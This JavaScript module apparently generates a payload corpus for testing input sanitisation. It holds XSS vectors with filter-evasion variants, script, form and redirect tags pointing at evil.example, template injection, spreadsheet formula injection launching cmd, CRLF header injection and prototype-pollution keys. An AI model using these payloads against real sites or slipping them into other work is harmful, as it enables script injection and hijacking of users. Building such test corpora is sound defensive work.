// Texts that try to become markup, code, formulas or headers.

const CALL = "alert(1)";
const HANDLERS = ["onerror", "onload", "onclick", "onfocus", "onmouseover", "onanimationstart", "ontoggle", "onbegin"];
const TAGS = [
  "img src=x",
  "svg",
  "body",
  "input autofocus",
  "details open",
  "video src=x",
  "marquee",
  "iframe",
  "object data=x",
  "style",
];
const SCHEMES = ["javascript:", "JaVaScRiPt:", "java\tscript:", " javascript:", "data:text/html,", "vbscript:"];
const OPENINGS = [
  "",
  "'",
  '"',
  "`",
  "-->",
  "]]>",
  "</script>",
  "</title>",
  "</textarea>",
  "</style>",
  "\\",
  "{{",
  "${",
];
const OTHERS = [
  "<script>CALL</script>",
  "<script src=//evil.example/x.js></script>",
  "<scr<script>ipt>CALL</script>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content=0;url=//evil.example>",
  "<form action=//evil.example><button>x</button></form>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<template><img src=x onerror=CALL></template>",
  "<math><mi xlink:href=javascript:CALL>x</mi></math>",
  "{{constructor.constructor('CALL')()}}",
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "x\r\nSet-Cookie: muriel=evil",
  "x%0d%0aLocation: //evil.example",
  "\u202Egnp.exe",
  "\uFEFF<img src=x onerror=CALL>",
  "&lt;img src=x onerror=CALL&gt;",
  "&#60;script&#62;CALL&#60;/script&#62;",
  "__proto__",
  "constructor",
];

/** More than five hundred texts. */
export const PAYLOADS = [
  ...OPENINGS.flatMap((opening) =>
    TAGS.flatMap((tag, at) =>
      [0, 1, 2].map((next) => `${opening}<${tag} ${HANDLERS[(at + next) % HANDLERS.length]}=CALL>`),
    ),
  ),
  ...OPENINGS.flatMap((opening) => SCHEMES.map((scheme) => `${opening}<a href="${scheme}CALL">x</a>`)),
  ...SCHEMES.map((scheme) => `${scheme}CALL`),
  ...OPENINGS.flatMap((opening) => OTHERS.slice(0, 3).map((other) => opening + other)),
  ...OTHERS,
].map((text) => text.replaceAll("CALL", CALL));
